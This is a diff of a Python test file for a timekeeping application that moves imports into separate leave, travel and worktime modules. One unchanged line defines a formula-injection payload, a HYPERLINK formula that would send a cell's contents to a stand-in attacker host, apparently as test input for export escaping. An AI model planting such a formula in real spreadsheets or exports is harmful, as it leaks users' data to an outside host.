@@ -10,9 +10,10 @@ from zoneinfo import ZoneInfo
 
 import pytest
 
-from timekeeping.models import LeaveType, Training
-from timekeeping.services import entitlement_grant, leave_request_create
-from timekeeping.time_services import time_entry_create
+from timekeeping.leave.models import LeaveType
+from timekeeping.leave.services import entitlement_grant, leave_request_create
+from timekeeping.travel.models import Training
+from timekeeping.worktime.services import time_entry_create
 
 BERLIN = ZoneInfo("Europe/Berlin")
 EVIL = '=HYPERLINK("http://evil.example/?"&A2,"Klick")'
